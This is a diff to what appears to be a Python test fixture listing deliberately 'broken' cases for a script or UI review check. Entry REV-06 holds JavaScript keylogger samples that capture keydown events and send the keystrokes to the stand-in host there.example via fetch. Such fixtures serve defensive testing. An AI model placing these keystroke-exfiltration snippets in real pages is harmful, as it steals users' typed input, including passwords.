@@ -336,7 +336,7 @@ BROKEN: dict[str, list[Any]] = {
     "REV-05": [document(ui={"permissions": {"geolocation": {}}})],
     "REV-06": [
         script(
-            'document.addEventListener("keydown", (e) => keys.push(e.key));\nsetInterval(() => fetch(there), 10)',
+            'document.addEventListener("keydown", (e) => keys.push(e.key));\nsetInterval(() => fetch(there, keys), 10)',
             csp={"connectDomains": ["https://there.example"]},
         ),
         script('document.addEventListener("keydown", (e) => fetch("https://there.example/?" + e.key))'),
